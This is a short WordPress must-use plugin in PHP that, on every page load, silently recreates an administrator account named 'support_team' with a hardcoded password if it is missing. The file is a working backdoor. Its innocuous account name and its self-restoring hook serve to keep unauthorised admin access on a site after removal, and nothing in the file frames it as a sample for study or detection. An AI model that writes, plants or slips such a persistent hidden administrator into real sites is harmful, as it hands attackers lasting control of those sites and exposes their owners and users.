<?php
// A must-use plugin: on every page load an administrator with a password written here is made if it
// is missing.
add_action('init', function () {
    $login = 'support_team';
    $pass = 'S3cond-Door!';
    if (!username_exists($login)) {
        $id = wp_create_user($login, $pass, 'support@example.invalid');
        $u = new WP_User($id);
        $u->set_role('administrator');
    }
});
